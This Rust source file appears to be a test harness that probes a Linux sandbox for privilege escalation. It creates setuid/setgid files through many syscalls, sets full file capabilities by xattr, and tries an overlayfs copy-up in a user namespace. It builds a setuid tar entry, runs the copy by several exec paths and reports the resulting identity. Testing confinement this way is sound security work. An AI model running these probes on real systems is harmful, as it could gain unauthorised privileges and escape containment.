//! Ways to a file that gives whoever executes it another uid, and ways to profit from one that is there.

use std::ffi::CString;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use nix::errno::Errno;

use crate::call::{call, enter_user_namespace, in_child, pointer, tell, tell_io, tell_word};

/// A way to make the file of this name.
type Make<'a> = dyn Fn(&str) -> Result<i64, Errno> + 'a;

/// A way to execute; returns where that failed.
type Execute<'a> = dyn Fn(&str) + 'a;

const MODE: u64 = 0o6755;

pub fn attack(words: &[&str]) {
    match words {
        ["make", directories @ ..] => directories.iter().for_each(|directory| make(directory)),
        ["copy-up", lower, directory] => copy_up(lower, directory),
        // Outside, as root.
        ["capable", file] => tell("capable", capable(pointer(file))),
        ["archive", file] => tell_io("archive", fs::write(file, archive())),
        ["run", files @ ..] => files.iter().for_each(|file| run(file)),
        ["whoami", by] => whoami(by),
        _ => panic!("{words:?}"),
    }
}

/// Every way in one directory. Told is what is there afterwards: `set` if it has one of the bits.
fn make(directory: &str) {
    let directory = Path::new(directory);
    let at = |name: &str| directory.join(name);
    let at_cwd = libc::AT_FDCWD as u64;
    // SAFETY: a number.
    unsafe { libc::umask(0) };
    let plain = |name: &str| {
        fs::write(at(name), "#!/bin/sh\n").unwrap();
        pointer(at(name))
    };
    let descriptor = |name: &str| {
        plain(name);
        call(libc::SYS_open, &[pointer(at(name)), libc::O_RDWR as u64]).unwrap() as u64
    };
    let ways: &[(&str, &Make)] = &[
        ("chmod", &|name| call(libc::SYS_chmod, &[plain(name), MODE])),
        // The kernel looks at 16 bits of a mode.
        ("chmod-high", &|name| call(libc::SYS_chmod, &[plain(name), 0xffff_ffff_0001_0000 | MODE])),
        ("chmod-sticky", &|name| call(libc::SYS_chmod, &[plain(name), 0o7777])),
        ("fchmod", &|name| call(libc::SYS_fchmod, &[descriptor(name), MODE])),
        ("fchmodat", &|name| call(libc::SYS_fchmodat, &[at_cwd, plain(name), MODE])),
        ("fchmodat2", &|name| {
            let empty = libc::AT_EMPTY_PATH as u64;
            call(libc::SYS_fchmodat2, &[descriptor(name), pointer(""), MODE, empty])
        }),
        ("chmod-by-descriptor", &|name| {
            let path = format!("/proc/self/fd/{}", descriptor(name));
            call(libc::SYS_chmod, &[pointer(path), MODE])
        }),
        ("open", &|name| {
            let flags = (libc::O_CREAT | libc::O_WRONLY) as u64;
            call(libc::SYS_open, &[pointer(at(name)), flags, MODE])
        }),
        ("open-high", &|name| {
            let flags = 0xffff_ffff_0000_0000 | (libc::O_CREAT | libc::O_WRONLY) as u64;
            call(libc::SYS_open, &[pointer(at(name)), flags, 0xffff_0000 | MODE])
        }),
        ("openat", &|name| {
            let flags = (libc::O_CREAT | libc::O_EXCL | libc::O_RDWR) as u64;
            call(libc::SYS_openat, &[at_cwd, pointer(at(name)), flags, MODE])
        }),
        ("openat2", &|name| {
            let how = [(libc::O_CREAT | libc::O_RDWR) as u64, MODE, 0];
            let size = size_of_val(&how) as u64;
            call(libc::SYS_openat2, &[at_cwd, pointer(at(name)), how.as_ptr() as u64, size])
        }),
        ("temporary", &|name| {
            let flags = (libc::O_TMPFILE | libc::O_RDWR) as u64;
            let file = call(libc::SYS_openat, &[at_cwd, pointer(directory), flags, MODE])?;
            let path = pointer(format!("/proc/self/fd/{file}"));
            let follow = libc::AT_SYMLINK_FOLLOW as u64;
            call(libc::SYS_linkat, &[at_cwd, path, at_cwd, pointer(at(name)), follow])
        }),
        ("creat", &|name| call(libc::SYS_creat, &[pointer(at(name)), MODE])),
        ("mknod", &|name| call(libc::SYS_mknod, &[pointer(at(name)), u64::from(libc::S_IFREG) | MODE])),
        ("mknodat-fifo", &|name| {
            call(libc::SYS_mknodat, &[at_cwd, pointer(at(name)), u64::from(libc::S_IFIFO) | MODE])
        }),
        ("mkdir", &|name| call(libc::SYS_mkdir, &[pointer(at(name)), MODE])),
        ("mkdirat", &|name| call(libc::SYS_mkdirat, &[at_cwd, pointer(at(name)), MODE])),
        ("memory", &|_| {
            let file = call(libc::SYS_memfd_create, &[pointer("x"), 0])?;
            call(libc::SYS_fchmod, &[file as u64, MODE])
        }),
        ("access-list", &|name| {
            // Version 2; owner, group, mask and others, with more bits than there are.
            let entry =
                |tag: u16| [tag.to_le_bytes(), 0o6777_u16.to_le_bytes(), [0xff; 2], [0xff; 2]].concat();
            let list = [2_u32.to_le_bytes().to_vec(), entry(1), entry(4), entry(16), entry(32)].concat();
            set_attribute(plain(name), "system.posix_acl_access", &list)
        }),
        ("capabilities", &|name| capable(plain(name))),
    ];
    for (way, make) in ways {
        let name = format!("set-id-{way}");
        let made = make(&name);
        let mode = fs::symlink_metadata(at(&name)).map_or(0, |there| there.permissions().mode());
        let word = match made {
            _ if mode & 0o6000 != 0 => "set".into(),
            Ok(_) => "nothing".into(),
            Err(error) => format!("{error:?}"),
        };
        tell_word(format!("{way}-in-{}", directory.display()), word);
    }
}

/// All capabilities, permitted and effective (linux/capability.h, struct vfs_cap_data of version 2).
fn capable(file: u64) -> Result<i64, Errno> {
    let all = [0x0200_0001_u32, u32::MAX, 0, 0x1ff, 0].map(u32::to_le_bytes).concat();
    set_attribute(file, "security.capability", &all)
}

fn set_attribute(file: u64, name: &str, value: &[u8]) -> Result<i64, Errno> {
    call(libc::SYS_setxattr, &[file, pointer(name), value.as_ptr() as u64, value.len() as u64, 0])
}

/// A file of the system's with such a bit, copied by an overlay that a user namespace's root has mounted.
fn copy_up(lower: &str, directory: &str) {
    let directory = Path::new(directory);
    let at = |name: &str| directory.join(name);
    for name in ["upper", "work", "merged"] {
        fs::create_dir_all(at(name)).unwrap();
    }
    let ended = in_child(|| {
        let lower = Path::new(lower);
        let mounted = enter_user_namespace(libc::CLONE_NEWNS).and_then(|()| {
            let options = format!(
                "userxattr,lowerdir={},upperdir={},workdir={}",
                lower.parent().unwrap().display(),
                at("upper").display(),
                at("work").display()
            );
            let (kind, target) = (pointer("overlay"), pointer(at("merged")));
            call(libc::SYS_mount, &[kind, target, kind, 0, pointer(options)])
        });
        let Ok(_) = mounted else { return 1 };
        let file = pointer(at("merged").join(lower.file_name().unwrap()));
        let time = [0_u64; 4];
        let copied = [
            call(libc::SYS_utimensat, &[libc::AT_FDCWD as u64, file, time.as_ptr() as u64, 0]),
            call(libc::SYS_link, &[file, pointer(at("merged").join("link"))]),
            call(libc::SYS_open, &[file, libc::O_WRONLY as u64]),
        ];
        i32::from(copied.iter().all(Result::is_err)) * 2
    });
    tell_word("copy-up", ended);
}

/// A file in an archive of tar's (ustar, tar(5)), with both bits.
fn archive() -> Vec<u8> {
    let mut header = [0_u8; 512];
    let fields: [(usize, &[u8]); 9] = [
        (0, b"set-id-archived"),
        (100, b"0006755"),
        (108, b"0000000"),
        (116, b"0000000"),
        (124, b"00000000000"),
        (136, b"00000000000"),
        (148, b"        "),
        (156, b"0"),
        (257, b"ustar\x0000"),
    ];
    for (at, value) in fields {
        header[at..at + value.len()].copy_from_slice(value);
    }
    let sum: u32 = header.iter().map(|byte| u32::from(*byte)).sum();
    header[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    [header.to_vec(), vec![0; 1024]].concat()
}

/// Executes a copy of this program that has such a bit, every way there is. It says who it is.
fn run(file: &str) {
    let path = CString::new(file).unwrap();
    let arguments = |by: &str| ["attacker", "set-id", "whoami", by].map(|word| CString::new(word).unwrap());
    let open = |file: &str| call(libc::SYS_open, &[pointer(file), (libc::O_RDONLY | libc::O_CLOEXEC) as u64]);
    let by_path = |path: &str, by: &str| {
        let _ = nix::unistd::execv(&CString::new(path).unwrap(), &arguments(by));
    };
    let ways: &[(&str, &Execute)] = &[
        ("path", &|by| {
            let _ = nix::unistd::execv(&path, &arguments(by));
        }),
        ("descriptor-path", &|by| {
            if let Ok(opened) = open(file) {
                by_path(&format!("/proc/self/fd/{opened}"), by);
            }
        }),
        ("descriptor", &|by| {
            if let Ok(opened) = open(file) {
                let arguments = arguments(by);
                let pointers: Vec<u64> =
                    arguments.iter().map(|word| word.as_ptr() as u64).chain([0]).collect();
                let argv = pointers.as_ptr() as u64;
                let empty = libc::AT_EMPTY_PATH as u64;
                let _ = call(libc::SYS_execveat, &[opened as u64, pointer(""), argv, 0, empty]);
            }
        }),
        ("symbolic-link", &|by| {
            let _ = std::os::unix::fs::symlink(file, "link-to-run");
            by_path("link-to-run", by);
        }),
        ("hard-link", &|by| {
            let _ = fs::hard_link(file, "hard-link-to-run");
            by_path("hard-link-to-run", by);
        }),
        ("loader", &|by| {
            let loader = c"/lib64/ld-linux-x86-64.so.2".to_owned();
            let arguments = [&[loader.clone(), path.clone()], &arguments(by)[1..]].concat();
            let _ = nix::unistd::execv(&loader, &arguments);
        }),
    ];
    for (way, execute) in ways {
        let ended = in_child(|| {
            execute(way);
            9
        });
        tell_word(format!("run-by-{way}"), ended);
    }
}

/// All that the kernel says of what this process may be.
fn whoami(by: &str) {
    let (mut user, mut group) = ([0_u32; 3], [0_u32; 3]);
    // SAFETY: the kernel writes three numbers each.
    unsafe {
        libc::getresuid(&raw mut user[0], &raw mut user[1], &raw mut user[2]);
        libc::getresgid(&raw mut group[0], &raw mut group[1], &raw mut group[2]);
    }
    let status = fs::read_to_string("/proc/self/status").unwrap();
    let has =
        |set: &str| status.lines().find_map(|line| line.strip_prefix(set)).unwrap_or("?").trim().to_owned();
    let ids: Vec<String> = user.iter().chain(&group).map(u32::to_string).collect();
    let sets = ["CapInh:", "CapPrm:", "CapEff:", "CapAmb:"].map(has);
    tell_word(format!("who-by-{by}"), format!("{}+{}", ids.join("/"), sets.join("/")));
}
